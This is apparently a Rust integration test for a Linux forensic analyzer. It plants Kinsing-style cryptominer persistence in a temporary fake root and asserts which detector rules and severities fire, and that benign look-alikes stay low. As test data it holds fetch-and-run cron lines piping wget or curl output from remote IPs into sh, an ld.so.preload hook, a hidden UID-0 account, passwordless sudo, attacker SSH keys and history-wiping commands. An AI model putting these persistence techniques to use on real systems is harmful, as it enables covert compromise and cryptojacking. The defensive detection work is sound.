//! Footholds detectors on real collected data: a fake root is populated with planted persistence,
//! keys, accounts and locks (real `chattr`, real `ssh-keygen` keys, RDB-junk bytes, real ownership),
//! collected with the real collector in dead-box mode (`minetrace-collect --root DIR -o OUT`), and
//! analysed with `Analysis::run`. Asserts rule ids, severities and exact subjects, and that the planted
//! look-alikes (health check, cleanup script, admin keys, vaccine file, packaged units) stay below medium.
//!
//! Needs root (tests run as root) for `chown` and `chattr`; lock-specific assertions are skipped with a
//! note when the temp filesystem refuses `chattr`.

use std::os::unix::fs::{chown, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use minetrace_analyzer::analysis::{Analysis, AnalysisInputs};
use minetrace_analyzer::indicators::Indicators;
use minetrace_schemas::findings::{Finding, Severity, Subject};
use minetrace_schemas::RawBytes;

/// Builds the collector once and returns its path (`target/<profile>/minetrace-collect`).
fn collector() -> &'static Path {
    static BIN: OnceLock<PathBuf> = OnceLock::new();
    BIN.get_or_init(|| {
        let status = Command::new(env!("CARGO"))
            .args([
                "build",
                "-q",
                "-p",
                "minetrace-collector",
                "--bin",
                "minetrace-collect",
            ])
            .status()
            .expect("running cargo build for the collector");
        assert!(status.success(), "building minetrace-collector failed");
        // This test binary lives in target/<profile>/deps/.
        let exe = std::env::current_exe().unwrap();
        let profile_dir = exe.parent().and_then(Path::parent).unwrap();
        let bin = profile_dir.join("minetrace-collect");
        assert!(bin.exists(), "collector not found at {}", bin.display());
        bin
    })
}

/// A fake root that clears its chattr locks before it is removed.
struct FakeRoot {
    dir: tempfile::TempDir,
}

impl FakeRoot {
    fn new() -> FakeRoot {
        FakeRoot {
            dir: tempfile::tempdir().unwrap(),
        }
    }
    fn path(&self, p: &str) -> PathBuf {
        self.dir.path().join(p.trim_start_matches('/'))
    }
    fn write(&self, p: &str, bytes: &[u8]) -> PathBuf {
        let full = self.path(p);
        std::fs::create_dir_all(full.parent().unwrap()).unwrap();
        std::fs::write(&full, bytes).unwrap();
        full
    }
    fn chown(&self, p: &str, uid: u32, gid: u32) {
        chown(self.path(p), Some(uid), Some(gid)).unwrap();
    }
    /// `chattr FLAGS path`; false when the filesystem refuses.
    fn chattr(&self, flags: &str, p: &str) -> bool {
        Command::new("chattr")
            .arg(flags)
            .arg(self.path(p))
            .status()
            .is_ok_and(|s| s.success())
    }
    fn collect(&self) -> (tempfile::TempDir, PathBuf) {
        let out = tempfile::tempdir().unwrap();
        let bundle = out.path().join("bundle.tar.zst");
        let o = Command::new(collector())
            .arg("--root")
            .arg(self.dir.path())
            .arg("-o")
            .arg(&bundle)
            .output()
            .unwrap();
        assert!(
            o.status.success(),
            "collector failed: {}",
            String::from_utf8_lossy(&o.stderr)
        );
        (out, bundle)
    }
}

impl Drop for FakeRoot {
    fn drop(&mut self) {
        let _ = Command::new("chattr")
            .arg("-R")
            .arg("-ia")
            .arg(self.dir.path())
            .status();
    }
}

fn keygen(dir: &Path, name: &str, comment: &str) -> (String, String) {
    let key = dir.join(name);
    let ok = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", comment, "-f"])
        .arg(&key)
        .status()
        .unwrap()
        .success();
    assert!(ok);
    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
    let out = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(key.with_extension("pub"))
        .output()
        .unwrap();
    let fp = String::from_utf8(out.stdout)
        .unwrap()
        .split_whitespace()
        .nth(1)
        .unwrap()
        .to_owned();
    (public.trim_end().to_owned(), fp)
}

/// What `minetrace analyze` uses without `--iocs`/`--allow`: the embedded indicators.
fn inputs() -> AnalysisInputs {
    AnalysisInputs {
        iocs: Indicators::builtin(),
        ..AnalysisInputs::default()
    }
}

fn persistence(path: &str, line: u32) -> Subject {
    Subject::Persistence {
        path: RawBytes::from(path),
        line,
    }
}

fn find<'a>(findings: &'a [Finding], rule: &str, subject: &Subject) -> Option<&'a Finding> {
    findings
        .iter()
        .find(|f| f.rule == rule && f.has_subject(subject))
}

fn dump(findings: &[Finding]) -> String {
    findings
        .iter()
        .map(|f| format!("{} {:?} {} {:?}", f.rule, f.severity, f.title, f.subjects))
        .collect::<Vec<_>>()
        .join("\n")
}

fn mentions(f: &Finding, path: &str) -> bool {
    f.iter_subjects().any(|s| match s {
        Subject::File { path: p, .. }
        | Subject::Persistence { path: p, .. }
        | Subject::SshKey { path: p, .. } => p.as_bytes() == path.as_bytes(),
        _ => false,
    })
}

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
games:x:5:60:games:/usr/games:/usr/games/sbin/nologin
redis:x:110:117::/var/lib/redis:/usr/sbin/nologin
admin:x:1000:1000:Admin:/home/admin:/bin/bash
toor:x:0:0::/root:/bin/bash
";

#[test]
fn planted_footholds_are_found_and_look_alikes_stay_low() {
    let root = FakeRoot::new();
    let keys = tempfile::tempdir().unwrap();
    let (admin_key, admin_fp) = keygen(keys.path(), "admin", "admin@laptop");
    let (bad_key, bad_fp) = keygen(keys.path(), "bad", "mdrfckr");
    let (tnt_key, tnt_fp) = keygen(keys.path(), "tnt", "hilde@teamtnt.red");

    root.write("/etc/passwd", PASSWD.as_bytes());
    root.write("/etc/group", b"root:x:0:\nsudo:x:27:admin\nredis:x:117:\n");
    root.write(
        "/etc/sudoers",
        b"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
    );
    root.write("/etc/sudoers.d/games", b"games ALL=(ALL) NOPASSWD:ALL\n");

    // Cron: a Kinsing line among legitimate ones, an RDB-junk crontab of redis, look-alikes.
    root.write(
        "/var/spool/cron/crontabs/root",
        b"# m h dom mon dow command\n0 3 * * * /usr/local/bin/backup.sh\n* * * * * wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1\n",
    );
    let mut rdb =
        b"REDIS0009\xfa\tredis-ver\x056.0.16\xfa\nredis-bits\xc0@\xfe\x00\xfb\x01\x00\x00\x01x\x1d"
            .to_vec();
    rdb.extend_from_slice(
        b"\n\n*/1 * * * * curl -fsSL http://127.66.0.1/x.sh | sh\n\n\xff\x9a\x12",
    );
    root.write("/var/spool/cron/crontabs/redis", &rdb);
    root.chown("/var/spool/cron/crontabs/redis", 110, 117);
    root.write(
        "/etc/cron.d/healthcheck",
        b"*/5 * * * * root curl -fsS -m 10 https://status.example.com/health >/dev/null 2>&1\n",
    );
    root.write(
        "/etc/cron.d/cleanup",
        b"0 * * * * root pkill -f kdevtmpfsi; rm -rf /tmp/.X25-unix /tmp/kdevtmpfsi; netstat -anp | grep 195.3.146.118 | awk '{print $7}' | xargs kill -9\n",
    );
    root.write("/etc/crontab", b"SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");

    // systemd: a family unit, a masquerading unit from a hidden temp path, a packaged one.
    root.write("/etc/systemd/system/bot.service", b"[Unit]\nDescription=bot\n[Service]\nExecStart=/etc/data/kinsing\nRestart=always\n[Install]\nWantedBy=multi-user.target\n");
    root.write(
        "/etc/systemd/system/sysupdate.service",
        b"[Service]\nType=simple\nExecStart=/tmp/.X25-unix/sysupdate --config /tmp/.X25-unix/config.json\nRestart=always\n",
    );
    root.write("/tmp/.X25-unix/sysupdate", b"#!/bin/sh\nexec sleep 1000\n");
    root.write(
        "/lib/systemd/system/cron.service",
        b"[Service]\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\nRestart=on-failure\n",
    );

    // Loader hook, rc.local, profile, history.
    root.write("/etc/ld.so.preload", b"/etc/data/libsystem.so\n");
    root.write(
        "/etc/rc.local",
        b"#!/bin/sh -e\nnohup /tmp/.X25-unix/.rsync/c/aptitude >/dev/null 2>&1 &\nexit 0\n",
    );
    root.write("/root/.bashrc", b"# ~/.bashrc\nalias ll='ls -l'\nif [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi\nexport HISTFILE=/dev/null\n");
    root.write(
        "/root/.bash_history",
        b"ls\npnscan 10.0.0.0/8 22\nhistory -c\nrm -f ~/.bash_history\n",
    );
    root.write(
        "/home/admin/.bashrc",
        b"alias ll='ls -l'\n. \"$HOME/.cargo/env\"\n",
    );

    // SSH: admin key + attacker key in root's file, a service-account key, authorized_keys2, sshd_config.
    root.write(
        "/root/.ssh/authorized_keys",
        format!("{admin_key}\r\n{bad_key}").as_bytes(),
    );
    root.write(
        "/home/admin/.ssh/authorized_keys",
        format!("{admin_key}\n").as_bytes(),
    );
    root.write(
        "/usr/games/.ssh/authorized_keys",
        format!("{tnt_key}\n").as_bytes(),
    );
    root.write(
        "/root/.ssh/authorized_keys2",
        format!("{admin_key}\n").as_bytes(),
    );
    root.write(
        "/etc/ssh/sshd_config",
        b"Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin yes\nPasswordAuthentication yes\n",
    );
    root.write("/etc/ssh/sshd_config.d/README", b"PermitRootLogin no\n");

    // Firewall rule against the Aliyun agent, in a saved rules file.
    root.write("/etc/iptables/rules.v4", b"*filter\n:INPUT ACCEPT [0:0]\n-A INPUT -s 140.205.201.0/28 -j DROP\n-A INPUT -p tcp -m tcp --dport 6379 -j DROP\nCOMMIT\n");

    // Locks: a vaccine, the preload file, authorized_keys2, sshd_config.
    root.write("/tmp/kdevtmpfsi", b"");
    let chattr_ok = root.chattr("+i", "/tmp/kdevtmpfsi");
    if chattr_ok {
        assert!(root.chattr("+i", "/etc/ld.so.preload"));
        assert!(root.chattr("+i", "/root/.ssh/authorized_keys2"));
        assert!(root.chattr("+i", "/etc/ssh/sshd_config"));
    } else {
        eprintln!("NOTE: chattr is not supported on the temp filesystem; lock assertions skipped");
    }
    symlink("/dev/null", root.path("/home/admin/.bash_history")).unwrap();

    let (_out, bundle) = root.collect();
    let analysis = Analysis::run(&bundle, &inputs()).unwrap();
    let findings = &analysis.document.findings;
    let all = dump(findings);
    eprintln!("{all}");
    let sev = |rule: &str, subject: &Subject| {
        find(findings, rule, subject)
            .unwrap_or_else(|| panic!("no {rule} with {subject:?} in\n{all}"))
            .severity
    };

    // Cron.
    let kinsing_cron = persistence("/var/spool/cron/crontabs/root", 3);
    assert!(sev("MT-PER-001", &kinsing_cron) >= Severity::High);
    assert!(
        find(
            findings,
            "MT-PER-001",
            &persistence("/var/spool/cron/crontabs/root", 2)
        )
        .is_none(),
        "{all}"
    );
    assert_eq!(
        find(findings, "MT-PER-001", &kinsing_cron)
            .unwrap()
            .family
            .as_deref(),
        Some("Kinsing")
    );
    let rdb_line = persistence("/var/spool/cron/crontabs/redis", 4);
    assert!(sev("MT-PER-002", &rdb_line) >= Severity::High);
    assert!(sev("MT-PER-001", &rdb_line) >= Severity::High);
    assert!(sev("MT-PER-003", &rdb_line) >= Severity::High);

    // systemd.
    let bot = persistence("/etc/systemd/system/bot.service", 4);
    assert!(sev("MT-PER-010", &bot) >= Severity::High);
    assert_eq!(
        find(findings, "MT-PER-010", &bot)
            .unwrap()
            .family
            .as_deref(),
        Some("Kinsing")
    );
    assert!(
        sev(
            "MT-PER-010",
            &persistence("/etc/systemd/system/sysupdate.service", 3)
        ) >= Severity::High
    );

    // Loader, rc, profile, history.
    let preload = find(
        findings,
        "MT-PER-040",
        &persistence("/etc/ld.so.preload", 1),
    )
    .expect(&all);
    assert_eq!(preload.severity, Severity::Critical);
    assert_eq!(preload.family.as_deref(), Some("Kinsing"));
    assert!(sev("MT-PER-020", &persistence("/etc/rc.local", 2)) >= Severity::High);
    assert_eq!(
        sev("MT-EVA-010", &persistence("/root/.bashrc", 4)),
        Severity::Medium
    );
    let hist = Subject::File {
        path: RawBytes::from("/root/.bash_history"),
        sha256: findings
            .iter()
            .flat_map(|f| f.iter_subjects())
            .find_map(|s| match s {
                Subject::File { path, sha256 } if path.as_bytes() == b"/root/.bash_history" => {
                    sha256.clone()
                }
                _ => None,
            }),
    };
    assert_eq!(sev("MT-EVA-010", &hist), Severity::Medium);
    assert_eq!(sev("MT-LAT-001", &hist), Severity::Medium);
    assert!(
        findings
            .iter()
            .any(|f| f.rule == "MT-EVA-010" && mentions(f, "/home/admin/.bash_history")),
        "{all}"
    );

    // SSH keys: subjects carry the fingerprint exactly as ssh-keygen -l prints it.
    let bad = Subject::SshKey {
        fingerprint: bad_fp.clone(),
        path: RawBytes::from("/root/.ssh/authorized_keys"),
        line: 2,
    };
    assert!(sev("MT-SSH-001", &bad) >= Severity::High);
    let tnt = Subject::SshKey {
        fingerprint: tnt_fp,
        path: RawBytes::from("/usr/games/.ssh/authorized_keys"),
        line: 1,
    };
    let tnt_f = findings.iter().find(|f| f.has_subject(&tnt)).expect(&all);
    assert!(tnt_f.severity >= Severity::High, "{all}");
    let ak2 = Subject::SshKey {
        fingerprint: admin_fp.clone(),
        path: RawBytes::from("/root/.ssh/authorized_keys2"),
        line: 1,
    };
    let ak2_f = findings.iter().find(|f| f.has_subject(&ak2)).expect(&all);
    assert_eq!(
        ak2_f.severity,
        if chattr_ok {
            Severity::Medium
        } else {
            Severity::Low
        }
    );
    // Admin key in root's and admin's authorized_keys: no finding at all.
    for path in [
        "/root/.ssh/authorized_keys",
        "/home/admin/.ssh/authorized_keys",
    ] {
        let admin = Subject::SshKey {
            fingerprint: admin_fp.clone(),
            path: RawBytes::from(path),
            line: 1,
        };
        assert!(
            !findings.iter().any(|f| f.has_subject(&admin)),
            "admin key flagged in {path}\n{all}"
        );
    }
    let sshd = find(
        findings,
        "MT-SSH-010",
        &persistence("/etc/ssh/sshd_config", 2),
    )
    .expect(&all);
    assert!(sshd.has_subject(&persistence("/etc/ssh/sshd_config", 3)));
    assert!(
        sshd.severity
            >= if chattr_ok {
                Severity::High
            } else {
                Severity::Medium
            }
    );

    // Accounts.
    let toor = Subject::Account {
        name: RawBytes::from("toor"),
        uid: Some(0),
    };
    assert_eq!(sev("MT-ACC-001", &toor), Severity::High);
    let games = Subject::Account {
        name: RawBytes::from("games"),
        uid: Some(5),
    };
    assert_eq!(sev("MT-ACC-002", &games), Severity::High);
    assert!(!findings.iter().any(|f| f.rule == "MT-ACC-002"
        && f.has_subject(&Subject::Account {
            name: RawBytes::from("admin"),
            uid: Some(1000)
        })));

    // Firewall.
    let agent_rule = Subject::FirewallRule {
        rule: RawBytes::from("-A INPUT -s 140.205.201.0/28 -j DROP"),
    };
    // Cutting off the cloud agent is low alone (an admin's agent removal, benign-aliyun-agent-removed);
    // this tree's intrusion is confirmed (the Kinsing cron line, the preload rootkit: findings at high or
    // above), the second property detect/agent_cutoff.rs needs for high (its unit tests cover both ways).
    assert_eq!(sev("MT-EVA-030", &agent_rule), Severity::High);
    let redis_rule = Subject::FirewallRule {
        rule: RawBytes::from("-A INPUT -p tcp -m tcp --dport 6379 -j DROP"),
    };
    assert_eq!(sev("MT-EVA-040", &redis_rule), Severity::Low);

    // Locks.
    if chattr_ok {
        let vaccine = findings
            .iter()
            .find(|f| f.rule == "MT-EVA-001" && mentions(f, "/tmp/kdevtmpfsi"))
            .expect(&all);
        assert_eq!(vaccine.severity, Severity::Low);
        assert!(findings.iter().any(|f| f.rule == "MT-EVA-001"
            && mentions(f, "/etc/ld.so.preload")
            && f.severity >= Severity::Medium));
    }

    // Look-alikes: nothing at medium or above names them.
    for benign in [
        "/etc/cron.d/healthcheck",
        "/etc/cron.d/cleanup",
        "/etc/crontab",
        "/lib/systemd/system/cron.service",
        "/home/admin/.bashrc",
        "/home/admin/.ssh/authorized_keys",
    ] {
        let bad: Vec<_> = findings
            .iter()
            .filter(|f| f.severity >= Severity::Medium && mentions(f, benign))
            .collect();
        assert!(
            bad.is_empty(),
            "look-alike {benign} reported:\n{}",
            dump(&bad.into_iter().cloned().collect::<Vec<_>>())
        );
    }
    let _ = bad_fp;
}

#[test]
fn clean_root_with_look_alikes_only_is_not_suspicious() {
    let root = FakeRoot::new();
    let keys = tempfile::tempdir().unwrap();
    let (admin_key, _) = keygen(keys.path(), "admin", "admin@laptop");
    root.write("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n");
    root.write("/etc/group", b"sudo:x:27:admin\n");
    root.write(
        "/etc/sudoers.d/90-cloud-init-users",
        b"admin ALL=(ALL) NOPASSWD:ALL\n",
    );
    root.write(
        "/etc/cron.d/healthcheck",
        b"*/5 * * * * root curl -fsS https://status.example.com/health >/dev/null\n",
    );
    root.write("/etc/cron.d/php", b"09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n");
    root.write("/etc/cron.daily/cleanup-miners", b"#!/bin/sh\npkill -f xmrig\npkill -f kdevtmpfsi\nrm -rf /tmp/.X25-unix /var/tmp/kinsing\niptables -D OUTPUT -d 195.3.146.118 -j DROP\ncrontab -l | grep -v 195.3.146.118 | crontab -\n");
    root.write("/etc/systemd/system/webapp.service", b"[Service]\nUser=www-data\nExecStart=/usr/bin/python3 /srv/webapp/app.py\nRestart=always\n");
    root.write(
        "/root/.ssh/authorized_keys",
        format!("{admin_key}\n").as_bytes(),
    );
    root.write(
        "/root/.bashrc",
        b"alias ll='ls -l'\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\n",
    );
    root.write("/etc/ssh/sshd_config", b"Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\nPasswordAuthentication no\n");
    // A rival's or admin's "vaccine": an empty file squatting a miner's path, locked.
    root.write("/var/tmp/kinsing", b"");
    let chattr_ok = root.chattr("+i", "/var/tmp/kinsing");
    let (_out, bundle) = root.collect();
    let analysis = Analysis::run(&bundle, &inputs()).unwrap();
    let findings = &analysis.document.findings;
    let all = dump(findings);
    eprintln!("{all}");
    assert!(
        findings.iter().all(|f| f.severity < Severity::Medium),
        "look-alikes reported:\n{all}"
    );
    if chattr_ok {
        assert!(
            findings
                .iter()
                .any(|f| f.rule == "MT-EVA-001" && f.severity == Severity::Low),
            "{all}"
        );
    }
}
